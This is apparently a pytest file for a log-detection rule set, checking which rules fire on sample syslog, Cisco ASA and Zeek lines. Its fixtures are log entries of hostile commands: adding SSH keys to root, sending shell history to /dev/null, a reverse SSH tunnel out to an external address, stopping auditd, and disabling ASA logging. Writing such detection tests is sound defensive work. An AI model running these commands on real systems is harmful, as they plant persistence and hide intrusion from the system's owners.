"""Rules of our own on lines as the sources really read them."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from countersign.model.batch import ParseContext
from countersign.rules import CompiledSet, compile_rules, own_rules
from countersign.sources import source

NOW = datetime(2026, 11, 21, tzinfo=UTC)
CONTEXT = ParseContext("0" * 64, NOW, NOW)
LINES = [
    (
        "linux-authorized-keys-changed",
        "sudo: msp : TTY=pts/1 ; PWD=/home/msp ; USER=root ; COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys",
    ),
    ("linux-sudo-to-shell", "sudo: msp : TTY=pts/1 ; PWD=/home/msp ; USER=root ; COMMAND=/bin/bash"),
    (
        "linux-history-disabled",
        "sudo: msp : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ln -sf /dev/null /root/.bash_history",
    ),
    (
        "linux-tunnel-opened",
        "sudo: msp : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ssh -NR 2222:localhost:22 u@203.0.113.9",
    ),
    (
        "linux-forwarding-failed",
        "sshd[812]: refused local port forward: originator 127.0.0.1 port 51514, target 10.20.0.5 port 3389",
    ),
    ("linux-forwarding-failed", "sshd[812]: error: connect_to 10.20.0.5 port 445: failed."),
    ("linux-admin-group-member-added", "usermod[900]: add 'msp2' to group 'sudo'"),
    (
        "linux-logging-stopped",
        "sudo: msp : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd",
    ),
    (
        "cisco-asa-way-in-changed",
        "%ASA-5-111008: User 'msp' executed the 'username helper password * privilege 15' command.",
    ),
    (
        "cisco-asa-way-in-changed",
        "%ASA-5-111010: User 'msp', running 'CLI' from IP 10.20.0.7, executed 'no logging enable'",
    ),
]
ORDINARY = [
    "sudo: jane : TTY=pts/1 ; PWD=/home/jane ; USER=root ; COMMAND=/usr/bin/apt update",
    "sshd[812]: Accepted publickey for msp from 10.20.0.7 port 51514 ssh2: ED25519 SHA256:abc",
    "sshd[812]: Disconnected from user msp 10.20.0.7 port 51514",
    "usermod[900]: add 'jane' to group 'audio'",
    "%ASA-5-111008: User 'msp' executed the 'show version' command.",
    "%ASA-4-113019: Group = G, Username = msp, IP = 203.0.113.9, Session disconnected.",
]


@pytest.fixture(scope="module")
def compiled() -> CompiledSet:
    return compile_rules(own_rules())


def names(compiled: CompiledSet, lines: list[str]) -> list[str]:
    records = [f"<86>Nov 20 10:00:00 web01 {line}".encode() for line in lines]
    events = source("syslog").parse(records, CONTEXT).events
    assert events.num_rows == len(lines)
    return [Path(compiled.rules[hit].path).stem for hit in compiled.match(events)["rule"].to_pylist()]


@pytest.mark.parametrize(("rule", "line"), LINES)
def test_fires_on_a_line_of_syslog(compiled: CompiledSet, rule: str, line: str) -> None:
    assert names(compiled, [line]) == [rule]


def test_is_silent_on_ordinary_lines(compiled: CompiledSet) -> None:
    assert names(compiled, ORDINARY) == []


def test_zeek(compiled: CompiledSet) -> None:
    header = "#separator \\x09\n#path\trdp\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\n"
    types = "#types\ttime\tstring\taddr\tport\taddr\tport\n"
    rows = [
        "1763800000.0\tCa1\t10.20.0.7\t50000\t10.20.0.5\t443",
        "1763800001.0\tCa2\t10.20.0.7\t50001\t10.20.0.5\t3389",
    ]
    records = [line.encode() for line in (header + types).splitlines()] + [row.encode() for row in rows]
    events = source("zeek").parse(records, CONTEXT).events
    hits = compiled.match(events).to_pylist()
    assert [Path(compiled.rules[hit["rule"]].path).stem for hit in hits] == ["zeek-rdp-on-other-port"]
    assert [hit["row"] for hit in hits] == [0]
